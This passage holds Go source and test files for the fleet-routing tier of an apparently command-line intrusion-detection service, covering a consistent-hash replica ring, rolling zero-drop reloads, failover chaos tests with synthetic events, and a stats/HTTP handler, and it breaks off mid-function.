// per-request timeouts with capped exponential backoff (Retry-After
// honored on 429), optional hedged requests for tail latency, session
// failover that migrates per-user windows across replicas (live export
// from a draining replica, verdict-built shadow windows when the source
// died), and a rolling fleet reload that never takes more than one replica
// out of rotation.
package fleet

import "sort"

// fnv1a is the same FNV-1a math stream.shardOf uses, one level up: the
// fleet ring and the in-process shard router agree on the hash family, so
// the fleet tier is the natural outer ring of the same partitioning story.
func fnv1a(s string) uint32 {
	h := uint32(2166136261) // FNV-1a offset basis
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= 16777619 // FNV prime
	}
	return h
}

// ringPoint is one virtual node: a hash position owned by a replica.
type ringPoint struct {
	hash uint32
	addr string
}

// Ring is an immutable consistent-hash ring over a set of replica
// addresses, each owning VNodes virtual points. Lookup maps a user to the
// first point clockwise of hash(user): when a replica joins or leaves,
// only the users whose arcs touched it move — the property that keeps a
// replica ejection from reshuffling every session in the fleet (a plain
// hash(user) % N would move nearly all of them).
type Ring struct {
	points []ringPoint
}

// DefaultVNodes is the virtual-node count per replica when Config.VNodes
// is zero: enough points that a 2–16 replica fleet balances within a few
// percent, cheap enough that ring rebuilds stay microseconds.
const DefaultVNodes = 64

// BuildRing constructs a ring over addrs with vnodes virtual points per
// replica (DefaultVNodes when <= 0). An empty addrs yields an empty ring
// (Lookup returns ""). Construction is deterministic in the set — order
// of addrs does not matter.
func BuildRing(addrs []string, vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = DefaultVNodes
	}
	r := &Ring{points: make([]ringPoint, 0, len(addrs)*vnodes)}
	var buf []byte
	for _, a := range addrs {
		for i := 0; i < vnodes; i++ {
			// addr "#" i: distinct, stable virtual point labels.
			buf = buf[:0]
			buf = append(buf, a...)
			buf = append(buf, '#')
			buf = appendInt(buf, i)
			r.points = append(r.points, ringPoint{hash: fnv1aBytes(buf), addr: a})
		}
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		// Hash ties (rare) break on address so the ring is deterministic
		// in the set regardless of insertion order.
		return r.points[i].addr < r.points[j].addr
	})
	return r
}

// fnv1aBytes is fnv1a over a byte slice (the vnode label path — avoids a
// string allocation per point).
func fnv1aBytes(b []byte) uint32 {
	h := uint32(2166136261)
	for i := 0; i < len(b); i++ {
		h ^= uint32(b[i])
		h *= 16777619
	}
	return h
}

// appendInt appends the decimal form of a small non-negative int.
func appendInt(b []byte, v int) []byte {
	if v == 0 {
		return append(b, '0')
	}
	var tmp [10]byte
	i := len(tmp)
	for v > 0 {
		i--
		tmp[i] = byte('0' + v%10)
		v /= 10
	}
	return append(b, tmp[i:]...)
}

// Empty reports whether the ring has no points (no healthy replicas).
func (r *Ring) Empty() bool { return len(r.points) == 0 }

// Lookup returns the replica owning user: the first virtual point at or
// clockwise of hash(user), wrapping at the top. "" on an empty ring.
func (r *Ring) Lookup(user string) string {
	if len(r.points) == 0 {
		return ""
	}
	h := fnv1a(user)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0
	}
	return r.points[i].addr
}

// LookupExcluding returns the owner of user on the ring with addr's points
// removed — the hedge/failover successor: where user would land if addr
// left the ring. "" when no other replica remains.
func (r *Ring) LookupExcluding(user, addr string) string {
	if len(r.points) == 0 {
		return ""
	}
	h := fnv1a(user)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	for k := 0; k < len(r.points); k++ {
		p := r.points[(i+k)%len(r.points)]
		if p.addr != addr {
			return p.addr
		}
	}
	return ""
}
