package fleet

import (
	"context"
	"sync"
	"testing"
	"time"

	"clmids/internal/stream"
)

// TestFleetChaosSoak is the issue's headline drill: a three-replica fleet
// under a seeded crash/revive/blackhole schedule must lose zero events and
// return verdicts byte-identical to a single node scoring the same stream —
// session windows riding failovers via shadow checkpoints, attack chains
// tripping the same alarms.
func TestFleetChaosSoak(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t), newTestReplica(t)}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 3)

	ref := newTestService(t)
	defer ref.Close()

	events := chainEvents(16, 18)
	chunks := chunked(events, 12)

	// The fault schedule, keyed by chunk index. At least one replica stays
	// in rotation at every point; a revival waits for probe-driven
	// readmission (the operator's view: bring the node back, watch it
	// rejoin) so the next kill never races the fleet down to zero.
	schedule := map[int]func(){
		3:  func() { reps[1].kill() },
		8:  func() { reps[1].revive(); waitHealthy(t, rt, 3) },
		11: func() { reps[2].kill() },
		15: func() { reps[2].revive(); waitHealthy(t, rt, 3) },
		18: func() { reps[0].kill() },
		22: func() { reps[0].revive(); waitHealthy(t, rt, 3) },
	}

	var fleetVerdicts, refVerdicts []stream.Verdict
	for i, chunk := range chunks {
		if f, ok := schedule[i]; ok {
			f()
		}
		vs, err := rt.Route(context.Background(), chunk)
		if err != nil {
			t.Fatalf("chunk %d: %v", i, err)
		}
		if len(vs) != len(chunk) {
			t.Fatalf("chunk %d: lost events (%d verdicts for %d events)", i, len(vs), len(chunk))
		}
		fleetVerdicts = append(fleetVerdicts, vs...)
		rv, err := ref.Submit(chunk)
		if err != nil {
			t.Fatalf("reference chunk %d: %v", i, err)
		}
		refVerdicts = append(refVerdicts, rv...)
	}

	if len(fleetVerdicts) != len(events) {
		t.Fatalf("soak lost events: %d verdicts for %d events", len(fleetVerdicts), len(events))
	}
	if got, want := verdictJSON(t, fleetVerdicts), verdictJSON(t, refVerdicts); got != want {
		// Find the first divergence for a useful failure message.
		for i := range fleetVerdicts {
			fj := verdictJSON(t, fleetVerdicts[i:i+1])
			rj := verdictJSON(t, refVerdicts[i:i+1])
			if fj != rj {
				t.Fatalf("verdict %d diverges under chaos:\nfleet: %sref:   %s", i, fj, rj)
			}
		}
		t.Fatal("verdicts diverge under chaos")
	}
	fleetAlarms, refAlarms := 0, 0
	for i := range fleetVerdicts {
		if fleetVerdicts[i].User == "mallory" && fleetVerdicts[i].SessionAlert {
			fleetAlarms++
		}
		if refVerdicts[i].User == "mallory" && refVerdicts[i].SessionAlert {
			refAlarms++
		}
	}
	if fleetAlarms == 0 || fleetAlarms != refAlarms {
		t.Fatalf("attack-chain alarms diverge: fleet %d, single node %d", fleetAlarms, refAlarms)
	}
	st := rt.Stats()
	if st.Failovers == 0 {
		t.Fatalf("chaos schedule produced no failovers — drill did not bite (stats: %+v)", st)
	}
	t.Logf("soak: %d events, %d failovers, %d retries, %d imports, alarms=%d",
		len(events), st.Failovers, st.Retries, st.Imports, fleetAlarms)
}

// TestFleetRollingReloadChaos drives continuous traffic through a
// two-replica fleet while RollingReload cycles both replicas (each with an
// unready window after its reload): zero event loss, byte-identical
// verdicts, both replicas reloaded, never more than one out of rotation.
func TestFleetRollingReloadChaos(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t)}
	for _, r := range reps {
		r.unreadyWindow = 100 * time.Millisecond
	}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 2)

	ref := newTestService(t)
	defer ref.Close()

	// Watch the one-out-at-a-time invariant from the side while traffic
	// and the reload run.
	var watchWG sync.WaitGroup
	watchStop := make(chan struct{})
	invariantBroken := make(chan string, 1)
	watchWG.Add(1)
	go func() {
		defer watchWG.Done()
		for {
			select {
			case <-watchStop:
				return
			case <-time.After(5 * time.Millisecond):
			}
			if st := rt.Stats(); st.HealthyReplicas < len(reps)-1 {
				select {
				case invariantBroken <- "more than one replica out of rotation during rolling reload":
				default:
				}
			}
		}
	}()

	reloadDone := make(chan error, 1)
	var reloaded []ReplicaReload
	go func() {
		// Let a little traffic land first so sessions exist to migrate.
		time.Sleep(20 * time.Millisecond)
		var err error
		reloaded, err = rt.RollingReload(context.Background(), "next")
		reloadDone <- err
	}()

	events := chainEvents(10, 16)
	var fleetVerdicts, refVerdicts []stream.Verdict
	for i, chunk := range chunked(events, 10) {
		vs, err := rt.Route(context.Background(), chunk)
		if err != nil {
			t.Fatalf("chunk %d during rolling reload: %v", i, err)
		}
		fleetVerdicts = append(fleetVerdicts, vs...)
		rv, err := ref.Submit(chunk)
		if err != nil {
			t.Fatalf("reference chunk %d: %v", i, err)
		}
		refVerdicts = append(refVerdicts, rv...)
	}
	if err := <-reloadDone; err != nil {
		t.Fatalf("rolling reload: %v", err)
	}
	close(watchStop)
	watchWG.Wait()
	select {
	case msg := <-invariantBroken:
		t.Fatal(msg)
	default:
	}

	if len(fleetVerdicts) != len(events) {
		t.Fatalf("lost events during rolling reload: %d verdicts for %d events", len(fleetVerdicts), len(events))
	}
	if got, want := verdictJSON(t, fleetVerdicts), verdictJSON(t, refVerdicts); got != want {
		t.Fatal("verdicts diverge across a rolling reload")
	}
	if len(reloaded) != len(reps) {
		t.Fatalf("rolling reload covered %d of %d replicas: %+v", len(reloaded), len(reps), reloaded)
	}
	for _, rr := range reloaded {
		if rr.Version != "v-next" {
			t.Fatalf("replica %s reloaded to %q, want v-next", rr.Addr, rr.Version)
		}
	}
	for i, rep := range reps {
		select {
		case v := <-rep.reloads:
			if v != "v-next" {
				t.Fatalf("replica %d saw reload %q", i, v)
			}
		default:
			t.Fatalf("replica %d never saw the reload", i)
		}
	}
	waitHealthy(t, rt, 2)
}
