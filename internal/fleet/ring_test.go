package fleet

import (
	"fmt"
	"testing"
)

func ringAddrs(n int) []string {
	addrs := make([]string, n)
	for i := range addrs {
		addrs[i] = fmt.Sprintf("http://replica-%d:8080", i)
	}
	return addrs
}

// The ring must be a pure function of the replica set: insertion order
// cannot change any user's owner.
func TestRingDeterministicInSet(t *testing.T) {
	addrs := ringAddrs(4)
	a := BuildRing(addrs, 0)
	b := BuildRing([]string{addrs[3], addrs[1], addrs[0], addrs[2]}, 0)
	for i := 0; i < 1000; i++ {
		u := fmt.Sprintf("user-%d", i)
		if a.Lookup(u) != b.Lookup(u) {
			t.Fatalf("user %s: owner depends on insertion order (%s vs %s)", u, a.Lookup(u), b.Lookup(u))
		}
	}
}

// Removing one replica may only move the users it owned; everyone else's
// owner must hold still — the consistency property that keeps an ejection
// from reshuffling every session in the fleet.
func TestRingRemovalMovesOnlyOrphans(t *testing.T) {
	addrs := ringAddrs(4)
	full := BuildRing(addrs, 0)
	without := BuildRing(addrs[:3], 0) // replica-3 ejected
	moved, kept := 0, 0
	for i := 0; i < 2000; i++ {
		u := fmt.Sprintf("user-%d", i)
		before := full.Lookup(u)
		after := without.Lookup(u)
		if before == addrs[3] {
			moved++
			if after == addrs[3] {
				t.Fatalf("user %s still mapped to removed replica", u)
			}
			continue
		}
		kept++
		if before != after {
			t.Fatalf("user %s moved from %s to %s though its owner stayed in the ring", u, before, after)
		}
	}
	if moved == 0 || kept == 0 {
		t.Fatalf("degenerate distribution: moved=%d kept=%d", moved, kept)
	}
}

// The ring should spread users roughly evenly: with 64 vnodes each of 4
// replicas should own a sane share, not a sliver.
func TestRingBalance(t *testing.T) {
	addrs := ringAddrs(4)
	r := BuildRing(addrs, 0)
	counts := map[string]int{}
	const n = 8000
	for i := 0; i < n; i++ {
		counts[r.Lookup(fmt.Sprintf("user-%d", i))]++
	}
	for _, a := range addrs {
		share := float64(counts[a]) / n
		if share < 0.10 || share > 0.45 {
			t.Fatalf("replica %s owns %.1f%% of users — ring badly unbalanced (%v)", a, share*100, counts)
		}
	}
}

// LookupExcluding must agree with a ring built without the excluded
// replica — it is the failover successor.
func TestLookupExcludingMatchesRemoval(t *testing.T) {
	addrs := ringAddrs(3)
	full := BuildRing(addrs, 0)
	without := BuildRing(addrs[1:], 0) // exclude addrs[0]
	for i := 0; i < 1000; i++ {
		u := fmt.Sprintf("user-%d", i)
		if got, want := full.LookupExcluding(u, addrs[0]), without.Lookup(u); got != want {
			t.Fatalf("user %s: LookupExcluding=%s, ring-without=%s", u, got, want)
		}
	}
}

// Empty and single-replica rings degrade sanely.
func TestRingEdgeCases(t *testing.T) {
	empty := BuildRing(nil, 0)
	if !empty.Empty() || empty.Lookup("u") != "" || empty.LookupExcluding("u", "x") != "" {
		t.Fatal("empty ring should return no owner")
	}
	one := BuildRing(ringAddrs(1), 0)
	if one.Lookup("anyone") != ringAddrs(1)[0] {
		t.Fatal("single-replica ring must own everyone")
	}
	if one.LookupExcluding("anyone", ringAddrs(1)[0]) != "" {
		t.Fatal("excluding the only replica must leave no successor")
	}
}
