package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"time"
)

// ReplicaReload reports one replica's slice of a rolling reload.
type ReplicaReload struct {
	// Addr is the replica base URL; Version the bundle version it reported
	// after the swap.
	Addr    string `json:"addr"`
	Version string `json:"version"`
}

// RollingReload hot-swaps the bundle at dir (default: Config.BundleDir)
// across the fleet one replica at a time, gated on per-replica /readyz so
// at most one replica is ever out of rotation — the zero-drop deploy:
//
//  1. wait until every other replica is healthy (a degraded fleet never
//     gives up more capacity);
//  2. mark the replica draining — the ring excludes it, new traffic for
//     its users migrates to successors via live session export;
//  3. wait for its in-flight requests to settle;
//  4. POST /reload and poll /readyz until the new bundle serves;
//  5. readmit and move to the next replica.
//
// A single-replica fleet skips the drain (its hot reload is already
// zero-downtime: the swap is a pointer exchange). On any failure the
// replica is undrained and the reload stops, leaving the fleet fully in
// rotation with whatever versions have landed.
func (rt *Router) RollingReload(ctx context.Context, dir string) ([]ReplicaReload, error) {
	rt.reloadMu.Lock()
	defer rt.reloadMu.Unlock()
	if dir == "" {
		dir = rt.cfg.BundleDir
	}
	var done []ReplicaReload
	for _, rep := range rt.reps {
		drained := len(rt.reps) > 1
		if drained {
			if err := rt.waitOthersReady(ctx, rep); err != nil {
				return done, fmt.Errorf("fleet: reload halted before %s: %w", rep.addr, err)
			}
			rt.setDraining(rep, true)
			rt.waitIdle(ctx, rep)
		}
		version, err := rt.reloadOne(ctx, rep, dir)
		if err == nil {
			err = rt.waitReadyz(ctx, rep)
		}
		if drained {
			rt.setDraining(rep, false)
		}
		if err != nil {
			return done, fmt.Errorf("fleet: reload of %s failed: %w", rep.addr, err)
		}
		// The replica answered /readyz itself; don't make its users wait
		// ReadmitAfter probe ticks to come home.
		rt.forceReady(rep)
		done = append(done, ReplicaReload{Addr: rep.addr, Version: version})
		rt.cfg.Logf("fleet: replica %s reloaded to %s", rep.addr, version)
	}
	return done, nil
}

func (rt *Router) setDraining(rep *replica, v bool) {
	rt.mu.Lock()
	rep.draining = v
	rt.rebuildRingLocked()
	rt.mu.Unlock()
}

// forceReady readmits a replica that just answered /readyz directly,
// short-circuiting the probe state machine.
func (rt *Router) forceReady(rep *replica) {
	if !rt.verifyConfigIfNeeded(rep) {
		return
	}
	rt.mu.Lock()
	rep.consecFails = 0
	rep.consecOKs = rt.cfg.ReadmitAfter
	if !rep.ready && rep.cfgOK {
		rep.ready = true
		rep.readmissions++
	}
	rt.rebuildRingLocked()
	rt.mu.Unlock()
}

func (rt *Router) verifyConfigIfNeeded(rep *replica) bool {
	rt.mu.Lock()
	ok := rep.cfgOK
	rt.mu.Unlock()
	if ok {
		return true
	}
	return rt.verifyConfig(rep)
}

// waitOthersReady blocks until every replica other than rep is healthy
// (ready, config-verified, not draining), or ReloadWait/ctx expires.
func (rt *Router) waitOthersReady(ctx context.Context, rep *replica) error {
	deadline := time.Now().Add(rt.cfg.ReloadWait)
	for {
		rt.mu.Lock()
		lagging := ""
		for _, other := range rt.reps {
			if other != rep && !(other.ready && other.cfgOK && !other.draining) {
				lagging = other.addr
				break
			}
		}
		rt.mu.Unlock()
		if lagging == "" {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("replica %s not healthy (one-out-at-a-time guard)", lagging)
		}
		if err := sleepCtx(ctx, rt.cfg.ProbeInterval/2); err != nil {
			return err
		}
	}
}

// waitIdle waits for rep's in-flight data-path calls to settle (bounded;
// a wedged call must not hang the deploy — the reload proceeds and the
// straggler fails over like any transport error).
func (rt *Router) waitIdle(ctx context.Context, rep *replica) {
	deadline := time.Now().Add(rt.cfg.ReloadWait)
	for rep.inflight.Load() > 0 && time.Now().Before(deadline) {
		if err := sleepCtx(ctx, 10*time.Millisecond); err != nil {
			return
		}
	}
}

// reloadOne POSTs /reload?bundle=dir to one replica and returns the new
// bundle version.
func (rt *Router) reloadOne(ctx context.Context, rep *replica, dir string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, rt.cfg.ReloadWait)
	defer cancel()
	u := rep.addr + "/reload"
	if dir != "" {
		u += "?bundle=" + url.QueryEscape(dir)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u, nil)
	if err != nil {
		return "", err
	}
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("HTTP %d: %s", resp.StatusCode, body)
	}
	var out struct {
		Version string `json:"version"`
	}
	if err := json.Unmarshal(body, &out); err != nil {
		return "", err
	}
	return out.Version, nil
}

// waitReadyz polls the replica's /readyz until it answers 200 or
// ReloadWait/ctx expires.
func (rt *Router) waitReadyz(ctx context.Context, rep *replica) error {
	deadline := time.Now().Add(rt.cfg.ReloadWait)
	for {
		if rt.checkReady(rep) {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("not ready within %s after reload", rt.cfg.ReloadWait)
		}
		if err := sleepCtx(ctx, rt.cfg.ProbeInterval/2); err != nil {
			return err
		}
	}
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		d = time.Millisecond
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
