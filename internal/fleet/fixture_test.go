package fleet

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"clmids/internal/faults"
	"clmids/internal/serve"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// fakeScorer is a deterministic stand-in for the inference engine: the
// score of a string is a hash of its bytes, so every replica — and the
// single-node reference — agrees on every score without building a model.
// Fleet tests are about routing and failover, not detection quality.
type fakeScorer struct{}

func fakeScore(s string) float64 {
	h := uint32(2166136261)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= 16777619
	}
	return float64(h%1000) / 999.0
}

func (fakeScorer) Score(inputs []string) ([]float64, error) {
	out := make([]float64, len(inputs))
	for i, s := range inputs {
		out[i] = fakeScore(s)
	}
	return out, nil
}

// testSessionConfig is the shared session config for fleet tests: context
// joining on, decay aggregation, a session threshold attack chains can
// trip, and a short idle timeout so idle-gap semantics get exercised.
func testSessionConfig() stream.Config {
	cfg := stream.DefaultConfig()
	cfg.ContextWindow = 3
	cfg.SessionThreshold = 0.75
	cfg.IdleTimeout = 600
	return cfg
}

// newTestService builds a 2-shard service over fakeScorers with the test
// session config — one replica's engine, or the single-node reference.
func newTestService(t *testing.T) *stream.Service {
	t.Helper()
	return newTestServiceCfg(t, testSessionConfig())
}

func newTestServiceCfg(t *testing.T, cfg stream.Config) *stream.Service {
	t.Helper()
	det, err := stream.NewShardedDetector([]tuning.Scorer{fakeScorer{}, fakeScorer{}}, cfg)
	if err != nil {
		t.Fatalf("detector: %v", err)
	}
	det.SetModality("shell")
	det.SetScorerVersion("v-test")
	return stream.NewShardedService(det, stream.ServiceConfig{QueueRequests: 16, BatchEvents: 64})
}

// testReplica is one in-process clmserve replica behind a switchable
// fault: the production serve handler over a real sharded service, with
// /reload stubbed (bundle loading is exercised elsewhere; here a reload
// bumps the version and blips /readyz so the router's rolling-reload
// gating is what's under test).
type testReplica struct {
	svc   *stream.Service
	fault *faults.ReplicaFault
	srv   *httptest.Server

	reloads       chan string // versions served by the stub /reload
	unreadyWindow time.Duration
}

func newTestReplica(t *testing.T) *testReplica {
	t.Helper()
	return newTestReplicaCfg(t, testSessionConfig())
}

// newDivergentReplica is a healthy, protocol-correct replica whose session
// config disagrees with the fleet's — the config-verification holdout case.
func newDivergentReplica(t *testing.T) *testReplica {
	t.Helper()
	cfg := testSessionConfig()
	cfg.IdleTimeout = 60
	return newTestReplicaCfg(t, cfg)
}

func newTestReplicaCfg(t *testing.T, cfg stream.Config) *testReplica {
	t.Helper()
	rep := &testReplica{
		svc:     newTestServiceCfg(t, cfg),
		fault:   faults.NewReplicaFault(),
		reloads: make(chan string, 16),
	}
	d := serve.NewDaemon("", false)
	d.Attach(rep.svc, "shell")
	inner := serve.NewHandler(d, 64)
	var unreadyUntil time.Time
	mux := http.NewServeMux()
	mux.HandleFunc("/reload", func(w http.ResponseWriter, r *http.Request) {
		version := "v-" + r.URL.Query().Get("bundle")
		select {
		case rep.reloads <- version:
		default:
		}
		if rep.unreadyWindow > 0 {
			unreadyUntil = time.Now().Add(rep.unreadyWindow)
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"version": version})
	})
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		if time.Now().Before(unreadyUntil) {
			http.Error(w, "reloading", http.StatusServiceUnavailable)
			return
		}
		inner.ServeHTTP(w, r)
	})
	mux.Handle("/", inner)
	rep.srv = httptest.NewServer(rep.fault.Wrap(mux))
	t.Cleanup(func() {
		rep.srv.Close()
		rep.svc.Close()
	})
	return rep
}

// kill simulates kill -9: every request (probes included) dies at the
// connection level.
func (r *testReplica) kill() {
	r.fault.SpareProbes(false)
	r.fault.Set(faults.ReplicaDown)
}

// revive clears all faults.
func (r *testReplica) revive() { r.fault.ClearFault() }

// newTestRouter builds and starts a router over the replicas with fast,
// deterministic test timings.
func newTestRouter(t *testing.T, mutate func(*Config), reps ...*testReplica) *Router {
	t.Helper()
	addrs := make([]string, len(reps))
	for i, r := range reps {
		addrs[i] = r.srv.URL
	}
	cfg := Config{
		Replicas:       addrs,
		ProbeInterval:  20 * time.Millisecond,
		RequestTimeout: 5 * time.Second,
		RetryMax:       3,
		RetryBase:      5 * time.Millisecond,
		RetryCap:       50 * time.Millisecond,
		ReloadWait:     5 * time.Second,
		Seed:           42,
		Logf:           t.Logf,
	}
	if mutate != nil {
		mutate(&cfg)
	}
	rt, err := New(cfg)
	if err != nil {
		t.Fatalf("fleet.New: %v", err)
	}
	rt.Start()
	t.Cleanup(rt.Stop)
	return rt
}

// waitHealthy polls until the router reports n healthy replicas.
func waitHealthy(t *testing.T, rt *Router, n int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if rt.Stats().HealthyReplicas == n {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("router never reached %d healthy replicas (stats: %+v)", n, rt.Stats())
}

// chainEvents builds a deterministic event stream for nUsers users plus an
// attack user whose lines score high enough to trip the session threshold
// partway through. Events are in time order, chunked later by the caller.
func chainEvents(nUsers, perUser int) []stream.Event {
	var evs []stream.Event
	base := int64(1_700_000_000)
	attackLines := pickLines(3, func(s float64) bool { return s >= 0.85 })
	benign := pickLines(8, func(s float64) bool { return s <= 0.4 })
	for step := 0; step < perUser; step++ {
		for u := 0; u < nUsers; u++ {
			evs = append(evs, stream.Event{
				User: fmt.Sprintf("user-%02d", u),
				Time: base + int64(step*10+u),
				Line: benign[(step*7+u*3)%len(benign)],
			})
		}
		// The attack chain advances one high-scoring step per round.
		evs = append(evs, stream.Event{
			User: "mallory",
			Time: base + int64(step*10+nUsers),
			Line: attackLines[step%len(attackLines)],
		})
	}
	return evs
}

// pickLines scans candidate strings for n lines whose fake score matches
// the predicate; deterministic, so every run agrees on the corpus.
func pickLines(n int, want func(float64) bool) []string {
	var out []string
	for i := 0; len(out) < n && i < 100000; i++ {
		s := fmt.Sprintf("cmd --flag=%d", i)
		if want(fakeScore(s)) {
			out = append(out, s)
		}
	}
	return out
}

// chunked splits events into fixed-size chunks, preserving order.
func chunked(evs []stream.Event, size int) [][]stream.Event {
	var out [][]stream.Event
	for len(evs) > 0 {
		n := size
		if n > len(evs) {
			n = len(evs)
		}
		out = append(out, evs[:n])
		evs = evs[n:]
	}
	return out
}

// verdictJSON renders verdicts one per line — the byte-identical
// comparison form.
func verdictJSON(t *testing.T, vs []stream.Verdict) string {
	t.Helper()
	var b []byte
	for i := range vs {
		j, err := json.Marshal(&vs[i])
		if err != nil {
			t.Fatalf("marshal verdict: %v", err)
		}
		b = append(b, j...)
		b = append(b, '\n')
	}
	return string(b)
}

// scoreHTTP streams events through an NDJSON /score endpoint (router or
// replica) and decodes the verdicts, failing on any in-band error record.
func scoreHTTP(t *testing.T, baseURL string, evs []stream.Event) []stream.Verdict {
	t.Helper()
	var body []byte
	for i := range evs {
		j, err := json.Marshal(&evs[i])
		if err != nil {
			t.Fatalf("marshal event: %v", err)
		}
		body = append(body, j...)
		body = append(body, '\n')
	}
	resp, err := http.Post(baseURL+"/score", "application/x-ndjson", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("POST /score: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST /score: HTTP %d", resp.StatusCode)
	}
	var out []stream.Verdict
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	for sc.Scan() {
		if len(sc.Bytes()) == 0 {
			continue
		}
		var probe struct {
			Error string `json:"error"`
		}
		if json.Unmarshal(sc.Bytes(), &probe) == nil && probe.Error != "" {
			t.Fatalf("in-band error record: %s", sc.Text())
		}
		var v stream.Verdict
		if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
			t.Fatalf("bad verdict line %q: %v", sc.Text(), err)
		}
		out = append(out, v)
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("response stream: %v", err)
	}
	return out
}
