package fleet

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"

	"clmids/internal/serve"
	"clmids/internal/stream"
)

// ReplicaStatus is one replica's health snapshot in RouterStats.
type ReplicaStatus struct {
	Addr  string `json:"addr"`
	Ready bool   `json:"ready"`
	// ConfigVerified reports whether the replica's session config and
	// modality matched the fleet's at last verification.
	ConfigVerified bool `json:"config_verified"`
	Draining       bool `json:"draining"`
	// Ejections / Readmissions count rotation transitions; Inflight is the
	// data-path calls currently against this replica.
	Ejections    int64 `json:"ejections"`
	Readmissions int64 `json:"readmissions"`
	Inflight     int64 `json:"inflight"`
}

// RouterStats is the /stats payload of a fleet router.
type RouterStats struct {
	// Replicas is the per-replica health breakdown; HealthyReplicas counts
	// those in rotation.
	Replicas        []ReplicaStatus `json:"replicas"`
	HealthyReplicas int             `json:"healthy_replicas"`
	// Events counts events routed; Retries same-target retry attempts;
	// Failovers re-partitions after a target fell out mid-chunk; Hedges /
	// HedgeWins speculative requests launched and won; Imports / Exports
	// session migrations landed and sourced live.
	Events    int64 `json:"events"`
	Retries   int64 `json:"retries"`
	Failovers int64 `json:"failovers"`
	Hedges    int64 `json:"hedges"`
	HedgeWins int64 `json:"hedge_wins"`
	Imports   int64 `json:"imports"`
	Exports   int64 `json:"exports"`
	// TrackedSessions is the live shadow-window count; Modality and Config
	// are the fleet-wide reference discovered from the first replica.
	TrackedSessions int           `json:"tracked_sessions"`
	Modality        string        `json:"modality,omitempty"`
	Config          stream.Config `json:"config"`
}

// Stats snapshots the router's counters and per-replica health.
func (rt *Router) Stats() RouterStats {
	rt.mu.Lock()
	st := RouterStats{
		Replicas:        make([]ReplicaStatus, 0, len(rt.reps)),
		HealthyReplicas: rt.healthyLocked(),
		TrackedSessions: len(rt.shadows),
		Modality:        rt.modality,
		Config:          rt.sessCfg,
	}
	for _, rep := range rt.reps {
		st.Replicas = append(st.Replicas, ReplicaStatus{
			Addr:           rep.addr,
			Ready:          rep.ready,
			ConfigVerified: rep.cfgOK,
			Draining:       rep.draining,
			Ejections:      rep.ejections,
			Readmissions:   rep.readmissions,
			Inflight:       rep.inflight.Load(),
		})
	}
	rt.mu.Unlock()
	st.Events = rt.events.Load()
	st.Retries = rt.retries.Load()
	st.Failovers = rt.failovers.Load()
	st.Hedges = rt.hedges.Load()
	st.HedgeWins = rt.hedgeWins.Load()
	st.Imports = rt.imports.Load()
	st.Exports = rt.exports.Load()
	return st
}

// Handler is the router's HTTP surface — protocol-identical to a replica
// for /score (NDJSON in, NDJSON verdicts + coded error records out),
// /healthz, and /readyz, with fleet semantics behind /stats (RouterStats),
// /reload (rolling, zero-drop), and /sessions/export (the router's shadow
// windows).
func (rt *Router) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/score", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST NDJSON events", http.StatusMethodNotAllowed)
			return
		}
		if !rt.Ready() {
			http.Error(w, ErrNoReplicas.Error(), http.StatusServiceUnavailable)
			return
		}
		serve.HandleScoreFunc(rt.Route, rt.cfg.Chunk, w, r)
	})
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(rt.Stats())
	})
	mux.HandleFunc("/reload", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST /reload?bundle=dir", http.StatusMethodNotAllowed)
			return
		}
		done, err := rt.RollingReload(r.Context(), r.URL.Query().Get("bundle"))
		if err != nil {
			// Partial progress still reports: operators need to know which
			// replicas moved before the stop.
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusInternalServerError)
			json.NewEncoder(w).Encode(map[string]any{
				"error":    err.Error(),
				"reloaded": done,
			})
			return
		}
		w.Header().Set("Content-Type", "application/json")
